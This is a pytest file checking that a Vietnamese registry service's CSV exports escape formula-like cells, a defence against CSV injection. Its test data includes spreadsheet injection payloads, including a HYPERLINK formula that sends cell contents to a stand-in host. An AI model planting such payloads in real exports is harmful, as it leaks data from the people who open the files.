"""Every CSV an official opens is safe in a spreadsheet: a name or address that begins like a formula
(=, +, -, @, tab, carriage return) stays text, per OWASP's advice on CSV injection."""

import csv
import io
from uuid import uuid4

import pytest

from services.coverage import OutreachRow, outreach_csv
from services.registry_import import ImportReport, RowOutcome, report_csv

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"xem")', "+84 912", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("typed", FORMULAS)
def test_the_outreach_list_writes_formula_like_cells_as_text(typed: str) -> None:
    row = OutreachRow(household_id=str(uuid4()), address=typed, members=typed, categories="", last_delivered_on="")
    header, written = _cells(outreach_csv([row], "vi"))
    assert written[0] == "'" + typed and written[1] == "'" + typed
    assert header[0] == "Địa chỉ"


@pytest.mark.parametrize("typed", FORMULAS)
def test_the_import_report_writes_formula_like_cells_as_text(typed: str) -> None:
    report = ImportReport(
        import_id=uuid4(),
        ward_code="26740",
        filename="ds.csv",
        already_imported=False,
        accepted=0,
        merged=0,
        rejected=1,
        rows=[RowOutcome(line=2, status="rejected", reason=typed)],
    )
    assert _cells(report_csv(report, "vi"))[1] == ["2", "Từ chối", "'" + typed]


def test_ordinary_text_is_written_as_it_is() -> None:
    row = OutreachRow(
        household_id="h", address="12/3 Lê Thánh Tôn", members="Bà Hà", categories="", last_delivered_on=""
    )
    assert _cells(outreach_csv([row], "vi"))[1][:2] == ["12/3 Lê Thánh Tôn", "Bà Hà"]
